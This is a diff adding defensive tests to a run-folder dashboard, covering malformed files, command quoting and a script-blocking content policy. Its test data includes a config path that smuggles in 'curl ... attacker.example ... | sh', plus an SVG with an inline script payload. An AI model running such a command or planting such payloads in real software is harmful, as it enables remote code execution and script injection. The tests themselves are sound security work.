@@ -253,3 +253,80 @@ def test_a_prompt_run_shows_its_prompt_and_diagnostics_and_every_evidence_row_it
     kernels = [td.text for td in browser.find_elements(By.CSS_SELECTOR, "#evidence td.kernel")]
     assert kernels and all(k.startswith("[") and k.endswith("]") for k in kernels), kernels
     _no_console_errors(browser)
+
+
+# What the code under test writes in its run folders (kept on the runs volume the App's dashboard
+# reads) must not take the pages down, run script, or put a command to paste that does more than
+# it says (an attacker's pass over the dashboard).
+
+def _runs_with_a_bad_one(tmp_path, name: str, files: dict[str, str]):
+    """The real H200 run, and a copy of it with `files` written over."""
+    bad = tmp_path / name
+    shutil.copytree(FIXTURES / "run-folders" / H200_RUN, tmp_path / H200_RUN)
+    shutil.copytree(FIXTURES / "run-folders" / H200_RUN, bad)
+    for path, text in files.items():
+        (bad / path).parent.mkdir(parents=True, exist_ok=True)
+        (bad / path).write_text(text)
+    return bad
+
+
+BAD = "20261206T120000Z-0f0e0d0c-0b0a-4908-8706-050403020100"
+
+
+@pytest.mark.parametrize("files", [
+    {"config.yml": "app:\n" + "  \n" * 60 + '  "name": evil\n'},  # a pattern read it in 2^60 steps
+    {"manifest.json": "[1]"},
+    {"manifest.json": '{"device": {"name": 7}, "stages": {}}'},
+    {"manifest.json": "[" * 100_000},
+    {"evaluation/result.json": '{"verdict": "improvement", "timing": {"per_kernel": {"k": {"improvement": 0.1}}}}'},
+    {"prompt/user-1.md": "### Hot kernel " + " (" * 50_000 + "\n```cuda\n```\n"},  # n^2 steps for a pattern
+])
+def test_one_run_folder_written_by_the_code_does_not_take_the_pages_down(tmp_path, files):
+    from runner.dashboard.app import create_dashboard
+
+    _runs_with_a_bad_one(tmp_path, BAD, files)
+    client = create_dashboard(tmp_path).test_client()
+    index = client.get("/")
+    assert index.status_code == 200 and H200_RUN in index.get_data(as_text=True)
+    assert client.get(f"/runs/{BAD}").status_code == 200 and client.get(f"/runs/{H200_RUN}").status_code == 200
+    for row in re.findall(r'class="app" href="([^"]+)"', index.get_data(as_text=True)):
+        assert client.get(row).status_code == 200
+
+
+def test_the_command_to_evaluate_a_run_quotes_what_the_run_says():
+    """The page of a run proposed without a GPU prints the command that evaluates it, taking the
+    config's path from the run's manifest: a path that is not a plain one is not shown."""
+    import json
+    import tempfile
+    from pathlib import Path
+
+    from runner.dashboard.runs import summary
+
+    with tempfile.TemporaryDirectory() as tmp:
+        run = Path(tmp) / BAD
+        (run / "candidates").mkdir(parents=True)
+        (run / "candidates" / "result.json").write_text('{"status": "accepted"}')
+        for path, shown in ((".optimas.yml; curl -s https://attacker.example/x | sh; #", "<its config>"),
+                            ("apps/k/optimas.yml", "apps/k/optimas.yml"), ("-rf", "<its config>")):
+            (run / "manifest.json").write_text(json.dumps({"config": {"path": path}, "stages": {}}))
+            assert summary(run).evaluate_with == f"optimas evaluate --config {shown} --run {run}"
+
+
+def test_no_page_or_plot_may_run_script():
+    """Every answer says what it may load (its own images, inline styles: no script), and an
+    ablation's plot, served as the run folder holds it, carries the same policy."""
+    import tempfile
+    from pathlib import Path
+
+    from runner.dashboard.app import create_dashboard
+
+    with tempfile.TemporaryDirectory() as tmp:
+        folder = Path(tmp) / "ablation-20261206T120000Z-0f0e0d0c-0b0a-4908-8706-050403020100"
+        folder.mkdir()
+        (folder / "ablation.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')
+        client = create_dashboard(Path(tmp)).test_client()
+        for answer in (client.get("/"), client.get(f"/ablations/{folder.name}.svg")):
+            assert answer.status_code == 200
+            csp = answer.headers["Content-Security-Policy"]
+            assert "default-src 'none'" in csp and "script-src" not in csp and "frame-ancestors 'none'" in csp
+            assert answer.headers["X-Content-Type-Options"] == "nosniff"
